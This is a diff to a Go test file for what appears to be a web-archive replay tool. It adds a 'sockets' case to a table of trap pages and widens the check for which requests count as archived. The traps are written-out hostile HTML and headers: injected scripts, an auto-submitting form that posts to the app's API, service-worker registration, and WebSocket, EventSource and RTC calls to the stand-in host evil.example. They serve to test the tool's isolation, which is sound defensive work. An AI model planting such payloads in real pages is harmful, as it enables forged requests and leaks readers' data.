@@ -28,6 +28,7 @@ var traps = map[string]trap{
 	"a service worker":            {body: `<script>navigator.serviceWorker?.register("/sw.js",{scope:"/"});navigator.serviceWorker?.register("SITE/sw.js");new Worker("SITE/sw.js");new SharedWorker("SITE/sw.js")</script>`},
 	"a form in the reader's name": {body: `<form id=f method=post action="APP/save"><input name=url value="http://evil.example/"></form><form id=g method=post action="APP/api/v1/collections/default/schedules/pause" enctype="text/plain" target=_blank></form><script>f.submit();g.submit()</script>`},
 	"windows":                     {body: `<script>open("http://evil.example/");open("APP/");open("SITE/")</script><a id=a target=_blank href="http://evil.example/">x</a><script>a.click();print();alert(1)</script>`},
+	"sockets":                     {body: `<script>new WebSocket("ws://evil.example/");new RTCPeerConnection({iceServers:[{urls:"stun:evil.example"}]}).createOffer();new EventSource("http://evil.example/");try{new WebTransport("https://evil.example/")}catch(e){}</script>`},
 	"what was never archived":     {body: `<img src="http://evil.example/a.png"><img src="SITE/later.png?"><link rel=stylesheet href="http://evil.example/a.css"><script src="http://evil.example/a.js"></script><video src="SITE/later.mp4" autoplay></video><iframe src="http://evil.example/"></iframe><style>@import "http://evil.example/b.css";body{background:url(http://evil.example/b.png)}@font-face{font-family:x;src:url(http://evil.example/x.woff)}body{font-family:x}</style>`},
 	"dangerous headers":           {header: map[string]string{"Refresh": "0; url=http://evil.example/", "Link": "<http://evil.example/a.css>; rel=stylesheet, <http://evil.example/>; rel=preload; as=image", "Set-Cookie": "lang=fr; Path=/", "Clear-Site-Data": `"*"`, "Service-Worker-Allowed": "/", "Access-Control-Allow-Origin": "*", "Content-Security-Policy": "default-src *", "Content-Security-Policy-Report-Only": "default-src 'none'; report-uri http://evil.example/csp", "NEL": `{"report_to":"d","max_age":9,"success_fraction":1}`, "Report-To": `{"group":"d","max_age":9,"endpoints":[{"url":"https://evil.example/"}]}`, "Alt-Svc": `h2="evil.example:80"`, "SourceMap": "http://evil.example/map", "Speculation-Rules": `"http://evil.example/s.json"`, "X-Frame-Options": "DENY", "Location": "http://evil.example/"}, body: `<img src=x.png>`},
 	"a title that is more":        {body: `<title>&lt;/title&gt;&lt;img src=http://evil.example/t onerror="fetch('http://evil.example/u')"&gt;&lt;script&gt;fetch("http://evil.example/v")&lt;/script&gt;</title>`},
@@ -65,8 +66,8 @@ func (s *seen) attacked() {
 		note += fmt.Sprintf("\"><img src=http://evil.example/context> of [%s](%s/trap/%d%s).\n\n", name, s.site, i, tail)
 	}
 	document := s.archives(note)
-	for _, modifier := range []string{"", "on_"} {
-		for some := range slices.Chunk(trapNames(), 5) {
+	for _, modifier := range []string{"", "on_", "ia_"} {
+		for some := range slices.Chunk(trapNames(), 6) {
 			s.opened(some, modifier)
 		}
 	}
@@ -117,7 +118,7 @@ func (s *seen) opened(some []string, modifier string) {
 	}
 	for i, tab := range tabs {
 		// A frame may go on, to what is not in the archive.
-		if text := tab.FrameText(); !strings.Contains(text, "It is shown.") && !strings.Contains(text, "no capture of it is held") {
+		if text := tab.FrameText(""); !strings.Contains(text, "It is shown.") && !strings.Contains(text, "no capture of it is held") {
 			s.Errorf("%s: in the frame stands %q", some[i], text)
 		}
 		tab.Close()
@@ -125,7 +126,8 @@ func (s *seen) opened(some []string, modifier string) {
 	for _, r := range s.Asked() {
 		byPage := r.Site == "same-origin" && (strings.HasPrefix(r.URL, s.app+"/assets/") || r.URL == s.app+"/favicon.ico")
 		byHand := r.Site == "none" && slices.Contains(frames, r.URL)
-		if !r.Allowed || r.Method != http.MethodGet || !byPage && !byHand && !strings.HasPrefix(r.URL, s.replay+"/web/") {
+		fromArchive := strings.HasPrefix(r.URL, s.replay+"/web/") || strings.HasPrefix(r.URL, s.replay+"/replaywebpage/")
+		if !r.Allowed || r.Method != http.MethodGet || !byPage && !byHand && !fromArchive {
 			s.Errorf("one of %q asks for %+v", some, r)
 		}
 	}
